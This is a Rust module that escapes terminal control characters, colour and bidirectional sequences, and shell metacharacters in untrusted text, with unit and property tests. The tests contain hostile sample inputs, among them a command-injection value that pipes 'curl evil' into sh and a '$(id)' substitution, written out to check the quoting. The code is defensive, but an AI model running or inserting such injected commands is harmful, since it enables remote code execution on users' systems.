//! Text that others wrote, made safe to show: API servers, tenants, other programs and files.
//!
//! A terminal obeys control characters: it clears the screen, sets its title, writes to the
//! clipboard. Bidirectional overrides show text in another order than it has. A line break can
//! begin a line that looks like one of this program.

#![deny(clippy::indexing_slicing)]

use std::fmt::Write as _;

/// The most characters that are shown of one text.
const LONGEST: usize = 20_000;

/// One line: line breaks and all other control characters become escapes, such as `\n` and
/// `\u{1b}`.
#[must_use]
pub fn one_line(text: &str) -> String {
    shortened(text, |c| c == '\t' || !is_obeyed(c))
}

/// Several lines: line breaks stay, all other control characters become escapes.
#[must_use]
pub fn lines(text: &str) -> String {
    shortened(text, |c| matches!(c, '\n' | '\t') || !is_obeyed(c))
}

/// Several lines, each but the first indented, so that none looks like one of this program.
#[must_use]
pub fn indented(text: &str, by: usize) -> String {
    let indent = format!("\n{:by$}", "");
    lines(text).trim_end().replace('\n', &indent)
}

/// Whole output of this program: its own line breaks and colours stay, whatever else a terminal
/// obeys becomes an escape.
#[must_use]
pub fn output(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find(|c| is_obeyed(c) && !matches!(c, '\n' | '\t')) {
        let (before, from) = rest.split_at(at);
        shown.push_str(before);
        let colour = colour_length(from);
        let length = colour.or_else(|| from.chars().next().map(char::len_utf8)).unwrap_or(1);
        let (obeyed, behind) = from.split_at(length);
        match colour {
            Some(_) => shown.push_str(obeyed),
            None => obeyed.chars().for_each(|c| escape(c, &mut shown)),
        }
        rest = behind;
    }
    shown.push_str(rest);
    shown
}

/// JSON: the characters that a terminal obeys become escapes of JSON, which mean the same.
#[must_use]
pub fn json(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' | '\t' => shown.push(c),
            c if is_obeyed(c) => {
                let _ = write!(shown, "\\u{:04x}", u32::from(c));
            }
            c => shown.push(c),
        }
    }
    shown
}

/// A word of a command to paste into a shell. A control character stays an escape, so that the
/// command fails instead of doing something else.
#[must_use]
pub fn shell_word(word: &str) -> String {
    let word = one_line(word);
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word;
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// Returns whether a terminal does something else with a character than show it: C0, DEL, C1 and
/// the bidirectional controls of Unicode (UAX 9), and the separators that some take for line
/// breaks.
pub(crate) fn is_obeyed(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{61c}' | '\u{2028}' | '\u{2029}')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn shortened(text: &str, is_shown: impl Fn(char) -> bool) -> String {
    let mut shown = String::with_capacity(text.len().min(LONGEST));
    for (count, c) in text.chars().enumerate() {
        if count == LONGEST {
            let _ = write!(shown, "… ({} bytes in all)", text.len());
            break;
        }
        if is_shown(c) { shown.push(c) } else { escape(c, &mut shown) }
    }
    shown
}

fn escape(c: char, shown: &mut String) {
    shown.extend(c.escape_default());
}

/// The colours and weights that this program uses itself (ECMA-48, SGR), and none that hides text.
const COLOURS: [&str; 13] =
    ["", "0", "1", "2", "22", "31", "32", "33", "34", "35", "36", "39", "90"];

/// The length of the colour that a text begins with.
fn colour_length(text: &str) -> Option<usize> {
    let codes = text.strip_prefix("\u{1b}[")?;
    let end = codes.find('m').filter(|end| *end <= 8)?;
    codes[..end].split(';').all(|code| COLOURS.contains(&code)).then_some(end + 3)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const HOSTILE: &str = "a\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\r\u{202e}b\nerror: fake\u{7f}\u{0}";

    #[test]
    fn nothing_that_a_terminal_obeys_is_left_in_one_line() {
        let shown = one_line(HOSTILE);
        assert_eq!(shown, r"a\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\r\u{202e}b\nerror: fake\u{7f}\u{0}");
        assert_eq!(one_line("plain: ü 漢 \u{1f600}\t-"), "plain: ü 漢 \u{1f600}\t-");
    }

    #[test]
    fn the_lines_of_a_message_do_not_begin_like_those_of_the_program() {
        assert_eq!(indented("one\nerror: two\r\n", 4), "one\n    error: two\\r");
    }

    #[test]
    fn a_long_text_is_cut() {
        let shown = one_line(&"x".repeat(LONGEST + 1));
        assert!(shown.len() < LONGEST + 40 && shown.ends_with("(20001 bytes in all)"), "{shown}");
        assert_eq!(one_line(&"x".repeat(LONGEST)).len(), LONGEST);
    }

    #[test]
    fn output_keeps_its_colours_and_no_other_sequence() {
        let own = "\u{1b}[31m\u{1b}[1merror:\u{1b}[0m\u{1b}[39m a\n\tb";
        assert_eq!(output(own), own);
        assert_eq!(output("\u{1b}[8mhidden\u{1b}[2J"), r"\u{1b}[8mhidden\u{1b}[2J");
        assert_eq!(output("a\u{9b}2Jü\r"), r"a\u{9b}2Jü\r");
    }

    #[test]
    fn json_means_the_same_afterwards() {
        let value = serde_json::json!({"a": HOSTILE, "b": "\u{9b}\u{2066}"});
        let shown = json(&serde_json::to_string_pretty(&value).expect("JSON"));
        assert!(!shown.chars().any(|c| is_obeyed(c) && c != '\n'), "{shown}");
        assert_eq!(serde_json::from_str::<serde_json::Value>(&shown).expect("JSON"), value);
    }

    #[test]
    fn a_word_of_a_command_is_one_word() {
        assert_eq!(shell_word("/var/lib/a-b_1.yaml"), "/var/lib/a-b_1.yaml");
        assert_eq!(shell_word("/tmp/x; curl evil|sh #"), "'/tmp/x; curl evil|sh #'");
        assert_eq!(shell_word("it's $(id)"), r"'it'\''s $(id)'");
        assert_eq!(shell_word("a\nb"), r"'a\nb'");
        assert_eq!(shell_word(""), "''");
    }

    proptest! {
        #[test]
        fn no_text_gets_through(text in any::<String>()) {
            prop_assert!(!one_line(&text).chars().any(|c| is_obeyed(c) && c != '\t'));
            let left = output(&text);
            for (at, c) in left.char_indices() {
                let own = matches!(c, '\n' | '\t') || colour_length(&left[at..]).is_some();
                prop_assert!(own || !is_obeyed(c));
            }
        }
    }
}
